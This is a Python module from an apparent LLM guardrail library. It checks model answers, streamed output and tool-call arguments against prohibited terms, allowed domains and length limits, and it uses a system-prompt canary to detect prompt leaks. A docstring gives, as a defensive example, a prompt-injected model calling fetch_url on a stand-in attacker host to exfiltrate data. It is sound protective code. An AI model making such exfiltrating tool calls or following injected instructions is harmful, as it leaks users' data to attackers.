"""The ``output_rules`` stage: semantic checks on the answer (and a canary in the prompt).

Settings: ``output_rules`` (``prohibited``, ``allowed_domains``, ``max_chars``; see
:mod:`guardfn.output.config`), ``canary`` (place a random token in the system prompt and
treat its appearance in the answer as a leak), ``on_violation``:

* ``"raise"``: refuse the answer with :class:`guardfn.GuardrailViolation` naming the
  rule ids (never the matched text);
* ``"redact"``: replace each offending span (``max_chars`` truncates);
* ``"flag"``: keep the answer, record a finding per rule.

Rules come from the ``guardfn_output_rules`` hook: this stage contributes the built-ins,
and any plugin can add its own (:class:`guardfn.output.rules.OutputRule`). They check the
text the caller would get (pseudonymized PII restored), and those strings of a validated
object that do not appear verbatim in it (JSON escapes such as ``\\u0063`` would hide a
term from the text); redacting rewrites both. Streamed answers are checked as they arrive
(:mod:`guardfn.output.streaming`), holding back only what a rule still needs.
"""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Mapping
from typing import Any

from guardfn.call import Call, Finding, Response, ToolRequest
from guardfn.errors import ConfigurationError, GuardrailViolation
from guardfn.hookspecs import hookimpl
from guardfn.output.config import config_of
from guardfn.output.rules import (
    AllowedDomains,
    CanaryLeak,
    MaxChars,
    ProhibitedTerms,
    Violation,
    apply_rules,
    canary_instruction,
    check_rules,
    load_suffix_list,
    new_canary,
    redact,
    suffix_list_ready,
)
from guardfn.output.streaming import StreamGuard, aguard_stream, guard_stream, violation_error
from guardfn.output.walk import iter_strings, map_strings
from guardfn.settings import Settings
from guardfn.stages.schema import add_system_text

NAME = "output_rules"


def active(settings: Settings) -> bool:
    """Whether this stage runs for a function with these settings: ``canary=True``, or any
    output rule (built-in or from a plugin's ``guardfn_output_rules``)."""
    return settings.canary or bool(rules_for(settings))


def builtin_rules(settings: Settings) -> list[Any]:
    """The built-in rules ``settings.output_rules`` asks for."""
    config = config_of(settings)
    rules: list[Any] = []
    if config.prohibited:
        rules.append(ProhibitedTerms(config.prohibited))
    if config.allowed_domains is not None:
        rules.append(AllowedDomains(config.allowed_domains))
    if config.max_chars is not None:
        rules.append(MaxChars(config.max_chars))
    return rules


@hookimpl
def guardfn_output_rules(settings: Settings) -> list[Any]:
    """Runs when a guarded function's output rules are built: contributes the built-ins."""
    return builtin_rules(settings)


@hookimpl
def guardfn_configure(settings: Settings) -> None:
    """Runs when a guarded function's settings are built: validates ``output_rules`` and
    builds every rule once, so a bad option fails before the first call."""
    config_of(settings)
    try:
        builtin_rules(settings)
    except ValueError as exc:
        raise ConfigurationError(f"invalid output_rules: {exc}", stage=NAME) from None
    _rules_cache.pop(id(settings), None)


# --- collecting rules ------------------------------------------------------------------

_rules_cache: dict[int, tuple[Settings, int, list[Any]]] = {}
_rules_lock = threading.Lock()


def rules_for(settings: Settings) -> list[Any]:
    """Every rule for these settings: the ``guardfn_output_rules`` results of all enabled
    plugins (built once per settings object and plugin generation)."""
    from guardfn import plugins

    generation = plugins.generation()
    hit = _rules_cache.get(id(settings))
    if hit is not None and hit[0] is settings and hit[1] == generation:
        return hit[2]
    hook = plugins.hook_caller(plugins.get_plugin_manager(), "guardfn_output_rules", frozenset(settings.disable))
    rules: list[Any] = []
    for contributed in hook(settings=settings):
        for rule in contributed or []:
            if not (isinstance(getattr(rule, "id", None), str) and callable(getattr(rule, "check", None))):
                raise ConfigurationError(
                    f"an output rule of type {type(rule).__name__} has no str id or no check() method",
                    stage=NAME,
                    hint="see guardfn.output.rules.OutputRule",
                )
            rules.append(rule)
    with _rules_lock:
        if len(_rules_cache) > 256:
            _rules_cache.clear()
        _rules_cache[id(settings)] = (settings, generation, rules)
    return rules


def rules_for_call(call: Call) -> list[Any]:
    """The rules for one call: the function's rules plus this call's canary, if any."""
    rules = rules_for(call.settings)
    token = call.state.get(NAME, {}).get("canary")
    if token:
        rules = [*rules, CanaryLeak(token)]
    return rules


def record_counts(call: Call, counts: Mapping[str, int], mode: str) -> None:
    """Add one finding per rule that was broken (count, action; never the text)."""
    for rule, count in sorted(counts.items()):
        if count:
            call.add_finding(
                Finding(
                    stage=NAME,
                    kind="output_rule",
                    rule=rule,
                    count=count,
                    blocked=mode == "raise",
                    detail={"action": mode},
                )
            )


def stream_guard_for(call: Call) -> StreamGuard | None:
    """A :class:`StreamGuard` with this call's rules and ``on_violation``, or ``None``."""
    rules = rules_for_call(call)
    if not rules:
        return None
    return StreamGuard(rules, call.settings.on_violation, config_of(call.settings).redaction)


# --- hooks ----------------------------------------------------------------------------------


@hookimpl
def guardfn_transform_input(call: Call) -> None:
    """Runs once per call, after PII handling: with ``canary=True`` puts a fresh random token
    in the system prompt (kept in ``call.state``) so an answer echoing the prompt is caught."""
    if not call.settings.canary:
        return
    token = new_canary()
    call.state.setdefault(NAME, {})["canary"] = token
    add_system_text(call, canary_instruction(token), NAME, first=True)


def _needs_suffix_list(call: Call, rules: list[Any]) -> bool:
    return call.is_async and not suffix_list_ready() and any(isinstance(r, AllowedDomains) for r in rules)


async def _after_loading_suffix_list(then: Any, *args: Any) -> Any:
    """Load the public suffix list in a worker thread (once), then run ``then``."""
    await asyncio.to_thread(load_suffix_list)
    return then(*args)


@hookimpl
def guardfn_check_output(call: Call, response: Response) -> Any:
    """Runs after each answer (after the schema stage): checks the text and the parsed
    object's strings; raises, redacts or flags per ``on_violation``. In async mode the
    first use of the public suffix list loads it in a worker thread."""
    rules = rules_for_call(call)
    if not rules:
        return None
    if _needs_suffix_list(call, rules):
        return _after_loading_suffix_list(_check, call, response, rules)
    _check(call, response, rules)
    return None


def _check(call: Call, response: Response, rules: list[Any]) -> None:
    vault = call.vault if call.settings.pii == "pseudonymize" else {}
    text = _restored(response.text, vault)
    found = check_rules(rules, text)
    field_rules = [r for r in rules if getattr(r, "fields", True)]
    field_found: list[Violation] = []
    if response.parsed is not None and field_rules:
        for value in iter_strings(response.parsed):
            value = _restored(value, vault)
            if value not in text:  # a string written verbatim in the answer was checked with it
                field_found.extend(check_rules(field_rules, value))
    if not found and not field_found:
        return
    mode = call.settings.on_violation
    replacement = config_of(call.settings).redaction
    if mode == "redact" and found:
        # the same verdict a stream gets: a rule that ends the answer (max_chars) cuts it
        # first, and the other rules judge what is kept
        response.text, found = apply_rules(rules, text, replacement)
        call.record_change(NAME, "response.text", len(found))
    counts: dict[str, int] = {}
    for v in [*found, *field_found]:
        counts[v.rule] = counts.get(v.rule, 0) + 1
    record_counts(call, counts, mode)
    if mode == "raise":
        raise violation_error(counts)
    if mode == "redact" and response.parsed is not None and field_rules:

        def clean(value: str) -> str:
            restored = _restored(value, vault)
            spans = check_rules(field_rules, restored)
            return redact(restored, spans, replacement) if spans else value

        parsed = map_strings(response.parsed, clean)
        if parsed is not response.parsed:
            response.parsed = parsed
            call.record_change(NAME, "response.parsed", 1)


@hookimpl
def guardfn_check_tool_call(call: Call, request: ToolRequest) -> Any:
    """Runs for each tool call before it runs: the rules judge every string of its arguments
    (PII already restored), so a model steered into ``fetch_url("https://evil.example/?q=...")``
    is refused with ``GuardrailViolation`` before the tool sees it. An argument cannot be
    redacted into something meaningful, so ``on_violation="redact"`` refuses too; ``"flag"``
    records the finding and lets the tool run."""
    rules = [r for r in rules_for_call(call) if getattr(r, "fields", True)]
    if not rules or not request.arguments:
        return None
    if _needs_suffix_list(call, rules):
        return _after_loading_suffix_list(_check_arguments, call, request, rules)
    _check_arguments(call, request, rules)
    return None


def _check_arguments(call: Call, request: ToolRequest, rules: list[Any]) -> None:
    counts: dict[str, int] = {}
    for value in iter_strings(request.arguments):
        for violation in check_rules(rules, value):
            counts[violation.rule] = counts.get(violation.rule, 0) + 1
    if not counts:
        return
    mode = "flag" if call.settings.on_violation == "flag" else "raise"
    record_counts(call, counts, mode)
    if mode == "raise":
        raise GuardrailViolation(
            f"the arguments of a call of tool {request.tool_call.name!r} broke output rule(s): "
            f"{', '.join(sorted(counts))}; the tool was not run",
            rules=sorted(counts),
            stage=NAME,
            hint="check the prompt and tool results for injected instructions, or use on_violation='flag'",
        )


@hookimpl
def guardfn_wrap_stream(call: Call, chunks: Any) -> Any:
    """Runs once per streamed call (after the PII restorer): applies the rules to the
    chunks as they arrive, holding back only what a rule still needs."""
    rules = rules_for_call(call)
    if not rules:
        return None
    if not call.is_async:
        return guard_stream(call, chunks)
    if _needs_suffix_list(call, rules):
        return _after_loading_suffix_list(aguard_stream, call, chunks)
    return aguard_stream(call, chunks)


def _restored(text: str, vault: Mapping[str, str]) -> str:
    if not vault:
        return text
    from guardfn.pii.restore import restore_text

    return restore_text(text, vault)
